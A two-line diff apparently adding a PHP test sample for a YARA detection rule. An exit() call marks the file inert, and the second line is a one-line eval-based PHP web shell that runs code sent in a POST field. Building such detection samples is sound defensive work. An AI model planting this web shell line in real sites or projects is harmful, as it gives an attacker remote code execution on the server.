@@ -1,0 +1,2 @@
+<?php exit('canhgac YARA test sample - inert'); ?>
+<?php @eval($_POST['canhgac_test']);?>
